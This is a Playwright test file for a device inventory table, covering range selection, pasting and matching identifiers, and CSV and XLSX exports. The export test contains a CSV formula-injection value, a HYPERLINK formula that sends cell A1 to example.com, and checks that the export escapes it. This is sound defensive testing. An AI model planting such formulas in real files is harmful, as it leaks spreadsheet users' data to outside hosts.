import { readFile } from 'node:fs/promises';
import type { Download, Page } from 'playwright/test';
import { expect, openAs, test } from './support/fixtures.ts';
import { expectCount, row, selection } from './support/table.ts';

test('shift selects the rows in between, and the header selects all that match, not one page', async ({
  page,
}) => {
  await openAs(page, 'technician');
  await row(page, 2).getByRole('checkbox').click();
  await row(page, 9)
    .getByRole('checkbox')
    .click({ modifiers: ['Shift'] });
  await expect(selection(page)).toContainText('8 selected');
  for (const n of [2, 5, 9]) await expect(row(page, n)).toHaveAttribute('aria-selected', 'true');
  await expect(row(page, 1)).toHaveAttribute('aria-selected', 'false');

  await page.getByRole('columnheader').getByRole('checkbox').click();
  await expect(selection(page)).toContainText('500 selected');
  await page.getByRole('searchbox').fill('galaxy');
  await expectCount(page, /of 500/);
  await expect(selection(page)).toContainText(/500 selected/);
  await expect(selection(page)).toContainText(/not shown/);
  await selection(page).getByRole('button', { name: /Clear/ }).click();
  await expect(selection(page)).toHaveCount(0);
});

test('fifty identifiers pasted at once are matched, unknown or given twice, each listed', async ({
  page,
}) => {
  await openAs(page, 'technician', '/devices?cols=name,serial,imei,email');
  await expect(row(page, 1)).toBeVisible();
  await row(page, 1).getByRole('checkbox').click();
  await page.keyboard.press('Control+a');
  await expect(selection(page)).toContainText('500 selected');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await selection(page).getByRole('button', { name: /Copy/ }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  const [head = '', ...lines] = copied.split(/\r?\n/);
  expect(head.split('\t')).toEqual(['Name', 'Serial number', 'IMEI', 'E-mail']);
  expect(lines).toHaveLength(500);
  const serials = lines.flatMap((line) => line.split('\t')[1] ?? []).filter((serial) => serial.length > 4);
  const pasted = [...serials.slice(0, 46), 'no-such-serial', '000000000000000', serials[0], 'Reception iPad'];

  await page.getByRole('button', { name: /Paste/ }).click();
  const dialog = page.getByRole('dialog', { name: 'Paste identifiers' });
  await dialog.getByRole('textbox').fill(['Serial number', ...pasted].join('\n'));
  await expect(dialog.getByRole('list', { name: /Unknown/ })).toContainText('no-such-serial');
  await expect(dialog.getByRole('list', { name: /Unknown/ })).toContainText('000000000000000');
  await expect(dialog.getByRole('list', { name: /twice|Duplicate|again/i })).toContainText(serials[0] ?? '?');
  await expect(dialog.getByRole('list', { name: /several|Ambiguous|more than one/i })).toContainText(
    'Reception iPad',
  );
  await expect(dialog.getByRole('list', { name: /Found|Matched/i })).toContainText(serials[45] ?? '?');
  await dialog.getByRole('button', { name: /^Show/ }).click();
  await expectCount(page, /^4\d of 500/);
  await expect(page).toHaveURL(/list=/);
  await page.reload();
  await expectCount(page, /^4\d of 500/);
});

async function exported(page: Page, format: 'CSV' | 'XLSX'): Promise<Download> {
  await page.getByRole('button', { name: 'Export', exact: true }).first().click();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: new RegExp(`matching.* as ${format}`, 'i') }).click();
  return download;
}

test('an export holds all matching rows, digits and formula-like names intact', async ({ page }) => {
  await openAs(page, 'manager', '/devices?cols=name,imei,id,serial');
  await expect(row(page, 1)).toBeVisible();
  const file = await exported(page, 'CSV');
  const text = (await readFile(await file.path(), 'utf8')).replace(/^\uFEFF/, '');
  const records = parseCsv(text);
  expect(records[0]).toEqual(['Name', 'IMEI', 'Device ID', 'Serial number']);
  expect(records).toHaveLength(501);
  const formula = records.find(([name]) => name?.includes('=HYPERLINK'));
  expect(formula?.[0]).toBe('\'=HYPERLINK("http://example.com/?"&A1,"Click me")');
  for (const [name, imei, id] of records.slice(1)) {
    expect(name).not.toMatch(/^[=+\-@]/);
    // A leading tab keeps a spreadsheet from reading digits as a number; every digit is there.
    if (imei !== '') expect(imei).toMatch(/^\t?\d{15}(, ?\d{15})*$/);
    expect(id).toMatch(/^\t\d{16,19}$/);
  }
  expect(new Set(records.slice(1).map(([, , id]) => id)).size).toBe(500);
});

test('a workbook opens with identifiers as text', async ({ page }) => {
  await openAs(page, 'manager', '/devices?cols=name,imei,capacity&q=galaxy');
  await expectCount(page, /of 500/);
  const file = await exported(page, 'XLSX');
  const { unzipSync, strFromU8 } = await import('fflate');
  const entries = unzipSync(new Uint8Array(await readFile(await file.path())));
  const sheet = strFromU8(entries['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  const count = await page
    .getByRole('status')
    .filter({ hasText: /of 500/ })
    .first()
    .innerText();
  const shown = Number.parseInt(count, 10);
  expect(sheet.match(/<row /g)).toHaveLength(shown + 1);
  const imei = /\d{15}/;
  const strings = strFromU8(entries['xl/sharedStrings.xml'] ?? new Uint8Array()) + sheet;
  expect(strings).toMatch(imei);
  // No cell holds an IMEI as a number.
  expect(sheet).not.toMatch(/<c(?![^>]*t="(?:s|inlineStr|str)")[^>]*><v>\d{15}<\/v>/);
});

/** RFC 4180. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    record.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    if (record.length > 1) records.push(record);
    record = [];
  }
  return records;
}
